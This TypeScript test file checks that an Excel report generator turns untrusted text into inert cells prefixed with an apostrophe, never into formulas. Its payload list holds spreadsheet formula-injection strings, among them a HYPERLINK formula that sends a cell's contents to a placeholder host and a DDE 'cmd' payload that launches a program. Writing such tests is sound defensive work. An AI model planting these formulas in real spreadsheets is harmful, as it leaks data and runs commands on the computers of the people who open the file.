import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { couldRunAsFormula, createXlsxWorkbook, inertText } from '../../src/report/xlsx/index.ts';
import { useTempDir } from '../helpers/temp-dir.ts';
import { zipEntriesText } from '../helpers/zip.ts';

const tempDir = useTempDir('kanslist-report-xlsx-inert-');

/** Values scraped from a legacy page or typed into an e-service that a spreadsheet could run. */
const PAYLOADS = [
  '=SUM(A1)',
  '+1',
  '-1+2',
  '@cmd',
  '\t=1',
  ' =1',
  '\r=1',
  '＝1', // full-width equals sign
  '=HYPERLINK("http://example.invalid/?leak="&A2,"Klicka")',
  "+cmd|' /C calc'!A0",
  '\u00a0=1',
];

const HARMLESS = ['Åsa Öberg', 'BN-2026-0042', '2026-11-22', 'a=b', '', 'Søren Ærø; 50 %'];

async function roundTrip(values: string[]): Promise<{ cells: ExcelJS.Cell[]; xml: string }> {
  const path = join(tempDir(), 'inert.xlsx');
  const workbook = await createXlsxWorkbook(path, { language: 'sv', timeZone: 'Europe/Stockholm' });
  const sheet = workbook.sheet<{ text: string }>('Text', [{ key: 'text', header: 'Text', type: 'text' }]);
  await sheet.addAll(values.map((text) => ({ text })));
  await workbook.close();
  const read = new ExcelJS.Workbook();
  await read.xlsx.readFile(path);
  const ws = read.getWorksheet('Text')!;
  return { cells: values.map((_, i) => ws.getCell(i + 2, 1)), xml: zipEntriesText(path) };
}

describe('untrusted text in Excel reports', () => {
  it('comes back as text cells starting with a visible apostrophe, never as formulas', async () => {
    const { cells, xml } = await roundTrip(PAYLOADS);
    cells.forEach((cell, i) => {
      expect(cell.type, PAYLOADS[i]).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, PAYLOADS[i]).toBeUndefined();
      expect(cell.text.startsWith("'"), JSON.stringify(cell.value)).toBe(true);
      expect(cell.text.slice(1).replace(/\r\n?/g, '\n')).toBe(PAYLOADS[i]!.replace(/\r\n?/g, '\n'));
    });
    expect(xml).not.toMatch(/<f[ >]/);
  });

  it('leaves ordinary text alone', async () => {
    const { cells } = await roundTrip(HARMLESS);
    expect(cells.map((c) => c.value ?? '')).toEqual(HARMLESS);
  });

  it('removes control characters XML cannot hold, so the file still opens', async () => {
    const { cells } = await roundTrip(['Ann\u0000a\u0007 Berg\u001f', '\u0001=1', 'rad 1\nrad 2', 'lone \ud800 surrogate', '😀 ok']);
    expect(cells.map((c) => c.value)).toEqual(['Anna Berg', "'=1", 'rad 1\nrad 2', 'lone  surrogate', '😀 ok']);
  });

  it('is a pure function over the same rules', () => {
    expect(inertText('-')).toBe("'-");
    expect(inertText('Text')).toBe('Text');
    expect(couldRunAsFormula('  @x')).toBe(true);
    expect(couldRunAsFormula('x=1')).toBe(false);
  });
});
